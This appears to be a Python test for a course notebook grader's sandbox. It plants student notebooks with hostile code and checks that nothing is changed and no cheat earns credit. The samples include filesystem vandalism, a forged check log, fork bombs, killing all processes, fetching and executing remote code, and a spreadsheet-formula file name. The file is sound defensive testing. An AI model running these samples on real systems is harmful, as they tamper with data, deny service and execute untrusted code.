"""A hostile class, graded by README's command (``--full`` only: it runs a class of notebooks).

Most submissions try to cheat or to do damage, each a different way: edit classmates' files and the
grader's tables (directly, and from a detached process that outlives its notebook), patch the
installed coursekit, replace ``check`` and its globals, forge the check log (found through the
environment, ``$PWD`` or ``Path.cwd().parent``), ``exec`` a classmate's cells, call coursekit's own
solutions, swallow the time limit, fork-bomb, hog memory, flood the output, reach the network, kill
every process they can, attack the grader's protocol, hide behind links, and pick file names that
are spreadsheet formulas. They know where everything is (the test tells them the real paths), as a
determined learner who guessed the layout would. A few honest learners (full lessons, one file
renamed, one with its answers moved) are graded in the same batch.

It passes when no file outside the grader's outputs changed, no process outlived the grader, no cheat
got credit (or its row says "check it by hand"), and every honest learner got full marks under the
right name.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

import coursekit
from coursekit.grade.sandbox import SANDBOX_UID_BASE
from grading_answers import BCE_RIGHT, BLANK_00, NG_RIGHT, mini_notebook

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the grader's sandbox needs Linux")]
ROOT = Path(__file__).resolve().parent.parent
NOTEBOOKS = {p.name[:2]: p for p in sorted((ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb"))}
README_COMMAND = "python -m coursekit.grade submissions/ --timeout 300 --csv grades.csv --details details.csv"
MARKER = f"hostile-{os.getpid()}-{int(time.time())}"

DROPOUT_RIGHT = """def dropout_forward(x, drop_prob, *, rng, training):
    if not 0 <= drop_prob <= 1:
        raise ValueError(f"drop_prob must be in [0, 1], got {drop_prob}")
    if not training:
        return x, None
    keep = 1 - drop_prob
    if keep == 0:
        mask = np.zeros_like(x)
    else:
        mask = (rng.random(x.shape) < keep).astype(x.dtype) / x.dtype.type(keep)
    return x * mask, mask"""
DROPOUT_BACKWARD_RIGHT = """def dropout_backward(dout, mask):
    return dout if mask is None else dout * mask"""
def _lesson(number: str):
    return nbformat.read(NOTEBOOKS[number], as_version=4)


def _answered(number: str, answers: dict[str, str]):
    """The whole lesson with its exercise cells replaced."""
    nb = _lesson(number)
    for i, cell in enumerate(nb.cells):
        if "exercise" in cell.metadata.get("tags", []):
            name = re.match(r"def (\w+)", cell.source).group(1)
            if name in answers:
                cell.source = answers[name]
    return nb


def _hostile_class(room: Path, targets: dict) -> dict[str, object]:
    """{path in submissions/: notebook}; ``targets`` are the real paths the hostile code goes after."""
    known = f"TARGETS = {json.dumps(targets)}\nMARKER = {MARKER!r}\n"
    vandal = known + """
import glob, json, os, subprocess, sys, time
from pathlib import Path
hits = []
def scribble(path):
    try:
        with open(path, "a") as f:
            f.write("\\n# vandalised by " + MARKER)
        hits.append(str(path))
    except Exception:
        pass
for folder, subfolders, files in os.walk("/"):
    subfolders[:] = [d for d in subfolders if os.path.join(folder, d) not in ("/proc", "/sys", "/usr")
                     and d != "site-packages"]
    for name in files:
        if name.endswith(".ipynb") or name.endswith(".csv"):
            scribble(os.path.join(folder, name))
for place in (os.environ.get("PWD", "."), str(Path.cwd().parent)):
    for path in glob.glob(os.path.join(place, "**", "*.ipynb"), recursive=True)[:200]:
        scribble(path)
for path in TARGETS.values():
    scribble(path)
import coursekit
scribble(Path(coursekit.__file__).parent / "exercises" / "_core" / "runner.py")
scribble(Path(coursekit.__file__).parent / "exercises" / "__init__.py")
try:
    open(Path(np.__file__).parent.parent / "sitecustomize.py", "w").write("import os")
except Exception:
    pass
forged = json.dumps({"exercise": "bce_with_logits", "status": "passed", "summary": "PASSED", "message": "",
                     "mistake": None, "seconds": 0}) + "\\n"
for log in [os.environ.get("COURSEKIT_CHECK_LOG", ""), str(Path.cwd().parent / "checks.jsonl"),
            os.path.join(os.environ.get("PWD", "."), "..", "checks.jsonl")]:
    if log:
        scribble(log)
        try:
            open(log, "a").write(forged * 3)
        except Exception:
            pass
keeper = ("import sys, time\\nend = time.time() + 300\\nwhile time.time() < end:\\n"
          "    for p in sys.argv[2:]:\\n        try:\\n            open(p, 'w').write('learner,score\\\\neve,1.0\\\\n')\\n"
          "        except Exception:\\n            pass\\n    time.sleep(0.1)")
subprocess.Popen([sys.executable, "-c", keeper, MARKER, *TARGETS.values()], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("vandalised:", hits)
"""
    made = {
        # Honest learners: a full lesson each; a renamed file; answers moved below their check cells.
        "alice/00_overfitting.ipynb": _answered("00", {"bce_with_logits": BCE_RIGHT, "numerical_gradient": NG_RIGHT}),
        "nina/dropout_final_v2.ipynb": _answered("02", {"dropout_forward": DROPOUT_RIGHT,
                                                        "dropout_backward": DROPOUT_BACKWARD_RIGHT}),
        "eve/00_overfitting.ipynb": mini_notebook([vandal, *BLANK_00], ["bce_with_logits", "numerical_gradient"]),
        "fred/00_overfitting.ipynb": mini_notebook([
            "from coursekit.exercises._core import runner, CheckResult\n"
            "import coursekit.exercises._core.isolation as iso\n"
            "fake = lambda name, fn: CheckResult(name, 'passed', f'PASSED ✅ {name}: trust me', fn)\n"
            "runner.run_check = fake\niso.run_check_in_child = lambda run, name, fn: fake(name, fn)\n"
            "check.__globals__['run_check_in_child'] = iso.run_check_in_child\n"
            "def bce_with_logits(logits, targets):\n    return 0.0, logits",
            "def numerical_gradient(f, x, h=1e-5):\n    return x"], ["bce_with_logits", "numerical_gradient"]),
        "gina/00_overfitting.ipynb": mini_notebook([
            "from coursekit.exercises import reference\nbce_with_logits = reference('bce_with_logits')",
            "def numerical_gradient(f, x, h=1e-5):\n    from coursekit.gradcheck import numerical_gradient as ng\n"
            "    return ng(f, x, h=h)"], ["bce_with_logits", "numerical_gradient"]),
        "hank/00_overfitting.ipynb": mini_notebook([
            known + f"import inspect\nsource = open({str(Path(coursekit.__file__).parent / 'losses.py')!r}).read()\n"
            "exec(source)\nbce_with_logits = binary_cross_entropy_with_logits",
            "import coursekit.gradcheck, inspect\nexec(inspect.getsource(coursekit.gradcheck))"],
            ["bce_with_logits", "numerical_gradient"]),
        "ida/00_overfitting.ipynb": mini_notebook([
            known + "import json, glob, os\nfrom pathlib import Path\n"
            "for path in [TARGETS['classmate'], *glob.glob(os.environ.get('PWD', '.') + '/../**/*.ipynb', "
            "recursive=True)]:\n    try:\n        for cell in json.load(open(path))['cells']:\n"
            "            if cell['cell_type'] == 'code' and 'def ' in ''.join(cell['source']):\n"
            "                exec(''.join(cell['source']))\n    except Exception:\n        pass"],
            ["bce_with_logits", "numerical_gradient"]),
        "jack/00_overfitting.ipynb": mini_notebook([
            "import time\ndef bce_with_logits(logits, targets):\n    while True:\n        try:\n"
            "            time.sleep(0.05)\n        except BaseException:\n            pass",
            "def numerical_gradient(f, x, h=1e-5):\n    while True:\n        try:\n            pass\n"
            "        except:\n            pass"], ["bce_with_logits", "numerical_gradient"]),
        "kate/00_overfitting.ipynb": mini_notebook([
            known + "import subprocess\nkids = []\ntry:\n    while len(kids) < 5000:\n"
            "        kids.append(subprocess.Popen(['sleep', '3600', MARKER]))\nexcept OSError as exc:\n"
            "    print(len(kids), 'processes, then', exc)",
            "hog = np.ones(10 ** 10)", *BLANK_00], ["bce_with_logits", "numerical_gradient"]),
        "liam/00_overfitting.ipynb": mini_notebook(["for i in range(10 ** 6):\n    print('spam ' * 200)", BLANK_00[0],
                                            NG_RIGHT], ["bce_with_logits", "numerical_gradient"]),
        "mia/00_overfitting.ipynb": mini_notebook([
            "import urllib.request\nexec(urllib.request.urlopen('http://93.184.215.14/answers.py', timeout=5).read())",
            "import socket\ns = socket.create_connection(('1.1.1.1', 53), timeout=5)\n" + NG_RIGHT],
            ["bce_with_logits", "numerical_gradient"]),
        "oscar/00_overfitting.ipynb": mini_notebook(["import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\n"
                                             "finally:\n    os.kill(os.getpid(), signal.SIGKILL)", *BLANK_00],
                                            ["bce_with_logits", "numerical_gradient"]),
        "paul/00_overfitting.ipynb": mini_notebook([
            "import os, stat\ndef bce_with_logits(logits, targets):\n    for fd in range(3, 30):\n        try:\n"
            "            if stat.S_ISFIFO(os.fstat(fd).st_mode):   # the pipes to the grader\n"
            "                os.write(fd, b'CKW1' + b'\\xff' * 64)\n        except OSError:\n            pass\n"
            "    return 0.0, logits",
            "def numerical_gradient(f, x, h=1e-5):\n    return np.zeros(40_000_000)"],
            ["bce_with_logits", "numerical_gradient"]),
        # The course's reference of an unanswered exercise, as the answer to another one: taken as it is...
        "quinn/05_batch_norm.ipynb": mini_notebook([
            "import coursekit.batchnorm as bn\ndef batchnorm_forward(x, gamma, beta, *, eps=1e-5):\n"
            "    return bn.batchnorm_forward(x, gamma, beta, eps=eps)",
            "def batchnorm_backward_graph(dout, cache):\n    raise NotImplementedError",
            "batchnorm_backward = batchnorm_backward_graph"],
            ["batchnorm_forward", "batchnorm_backward_graph", "batchnorm_backward"]),
        # ...or wrapped (as an honest answer building on an earlier exercise would be: checked by hand).
        "rose/05_batch_norm.ipynb": mini_notebook([
            "def batchnorm_backward_graph(dout, cache):\n    raise NotImplementedError",
            "def batchnorm_backward(dout, cache):\n    return batchnorm_backward_graph(dout, cache)"],
            ["batchnorm_backward_graph", "batchnorm_backward"]),
        '=HYPERLINK("evil.example";"x").ipynb': mini_notebook(BLANK_00, ["bce_with_logits", "numerical_gradient"]),
    }
    tom = _answered("00", {"bce_with_logits": BCE_RIGHT, "numerical_gradient": NG_RIGHT})
    answers = [i for i, c in enumerate(tom.cells) if "exercise" in c.metadata.get("tags", [])]
    for i in reversed(answers):
        tom.cells.append(tom.cells.pop(i))   # every answer moved to the end
    made["tom/Copy of 00_overfitting (1).ipynb"] = tom
    for name, nb in made.items():
        (room / "submissions" / name).parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, room / "submissions" / name)
    (room / "submissions" / "rita").mkdir()
    (room / "submissions" / "rita" / "00_overfitting.ipynb").symlink_to(room / "submissions" / "alice" /
                                                                        "00_overfitting.ipynb")
    (room / "submissions" / "rita" / "all").symlink_to(room / "submissions")
    return made


def _fingerprints(*folders: Path) -> dict[str, str]:
    found = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and not path.is_symlink() and "__pycache__" not in path.parts:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _touched(*folders: Path) -> list[str]:
    """Files the hostile code marked or made (the course's own files may change meanwhile in a shared checkout,
    so they are searched for the vandal's mark rather than compared)."""
    found = []
    for folder in folders:
        for path in folder.rglob("*"):
            try:
                if path.is_file() and (path.stat().st_uid >= SANDBOX_UID_BASE or MARKER.encode() in path.read_bytes()):
                    found.append(str(path))
            except OSError:
                continue
    return found


def _processes(marker: str) -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            cmdline = (proc / "cmdline").read_bytes()
            uid = proc.stat().st_uid
        except OSError:
            continue
        if marker.encode() in cmdline or uid >= SANDBOX_UID_BASE:
            found.append(f"{proc.name} (uid {uid}): {cmdline[:120]!r}")
    return found


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_a_hostile_class_changes_nothing_leaves_nothing_and_earns_nothing(tmp_path):
    room = tmp_path / "class"
    room.mkdir()
    package = Path(coursekit.__file__).parent
    targets = {"classmate": str(room / "submissions" / "alice" / "00_overfitting.ipynb"),
               "csv": str(room / "grades.csv"), "details": str(room / "details.csv"),
               "course": str(ROOT / "notebooks" / "00_overfitting.ipynb")}
    made = _hostile_class(room, targets)
    guarded = [room / "submissions"]
    before = _fingerprints(*guarded)
    import numpy
    course = [package, ROOT / "notebooks"]
    site_packages = Path(numpy.__file__).parent.parent
    site_files = sorted(p.name for p in site_packages.iterdir() if p.is_file())
    temp_before = set(os.listdir(tempfile.gettempdir()))

    command = README_COMMAND.split() + ["--jobs", "2"]
    assert command[0] == "python"
    proc = subprocess.run([sys.executable, *command[1:]], cwd=room, capture_output=True, text=True, timeout=3600)
    print(proc.stdout[-6000:], proc.stderr[-3000:])
    assert proc.returncode == 0, proc.stderr[-3000:]
    tables = {"csv": (room / "grades.csv").read_bytes(), "details": (room / "details.csv").read_bytes()}

    # Nothing outside the grader's outputs changed, now or a while after the grader ended.
    time.sleep(2)
    assert _processes(MARKER) == [], "a learner's process outlived the grader"
    assert _fingerprints(*guarded) == before
    assert _touched(*course) == []
    assert sorted(p.name for p in site_packages.iterdir() if p.is_file()) == site_files
    assert {"csv": (room / "grades.csv").read_bytes(), "details": (room / "details.csv").read_bytes()} == tables
    assert sorted(set(p.name for p in room.iterdir())) == ["details.csv", "grades.csv", "submissions"]
    left = [n for n in set(os.listdir(tempfile.gettempdir())) - temp_before
            if n.startswith(("coursekit-grade-", "coursekit-sandbox-"))]
    assert left == [], "the grader left its temporary folders behind"

    rows = {r["learner"]: r for r in _rows(room / "grades.csv")}
    details = {(r["learner"], r["exercise"]): r for r in _rows(room / "details.csv")}
    formula = next(name for name in rows if "HYPERLINK" in name)
    assert formula.startswith("'=HYPERLINK"), "a file name became a spreadsheet formula"
    assert set(rows) == {"alice", "nina", "tom", "eve", "fred", "gina", "hank", "ida", "jack", "kate", "liam", "mia",
                         "oscar", "paul", "quinn", "rose", "rita", formula}
    assert len(rows) == len(made) + 1   # one row per notebook, the linked ones included, none twice

    # Honest work: full marks, under the right name.
    for learner, lesson in (("alice", "00"), ("nina", "02"), ("tom", "00")):
        row = rows[learner]
        assert (row["lesson"], row["passed"], row["total"], row["score"]) == (lesson, row["total"], row["total"],
                                                                               "1.000"), row
    # No cheat earns anything, unless its row asks for a check by hand.
    for learner, row in rows.items():
        if learner in ("alice", "nina", "tom"):
            continue
        earned = [name for (who, name), d in details.items() if who == learner and d["status"] == "passed"]
        if learner == "liam":   # honest code under a flood of output: its answer still counts
            assert earned == ["numerical_gradient"] and row["outcome"] == "too much output", row
        elif learner == "rose":   # its backward is the course's, reached through an unanswered exercise
            assert earned == ["batchnorm_backward"] and "check it by hand" in row["reason"], row
        else:
            assert earned == [], (learner, row)
    assert rows["rita"]["outcome"] == "malformed" and "symbolic link" in rows["rita"]["reason"]
    assert "passed in the notebook's own run" in rows["fred"]["reason"]
    assert "not available when graded" in rows["gina"]["reason"] + details[("gina", "bce_with_logits")]["verdict"]
    assert "too slow" in details[("jack", "bce_with_logits")]["verdict"]
    assert "too slow" in details[("jack", "numerical_gradient")]["verdict"]
    assert rows["jack"]["outcome"] == "completed"     # the notebook's own checks did not hang either
    assert rows["oscar"]["outcome"] == "crashed"
    assert "the answer is the course's own batchnorm_backward_graph" in details[("quinn", "batchnorm_backward")][
        "verdict"]
